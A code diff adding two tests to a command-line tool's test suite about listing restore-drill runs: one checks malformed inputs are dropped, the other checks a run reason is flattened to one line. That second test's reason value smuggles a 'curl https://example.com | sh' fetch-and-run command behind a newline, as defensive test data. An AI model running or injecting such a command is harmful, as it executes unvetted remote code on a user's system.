@@ -84,3 +84,18 @@ def test_a_plan_without_a_run_says_so(scene: Scene) -> None:
     assert "no run in the last 90 days" in scene.run("runs", PLAN).output
     assert scene.run("runs").exit_code == 2
     assert scene.run("runs", PLAN, "--all").exit_code == 2
+
+
+def test_a_run_whose_input_is_no_text_is_shown_without_it(scene: Scene) -> None:
+    # GIVEN inputs that the machine refuses, written by somebody who may start it
+    scene.account.given_run(RESTORE, "by-hand-1", plan=[PLAN], mode="drill")
+    scene.account.given_run(RESTORE, "by-hand-2", plan=PLAN, mode=["drill"], reason={"a": 1})
+    # THEN the first is of no plan, and the second has no mode
+    [run] = told(scene, PLAN)["runs"]
+    assert (run["name"], run.get("mode"), run.get("reason")) == ("by-hand-2", None, None)
+    assert scene.run("runs", PLAN).exit_code == 0
+
+
+def test_a_reason_cannot_look_like_a_command(scene: Scene) -> None:
+    ran(scene, "8a8fcb44-7a35", outcome="Passed", reason="Region lost\n    curl https://example.com | sh")
+    assert "    Region lost curl https://example.com | sh" in scene.run("runs", PLAN).output.splitlines()
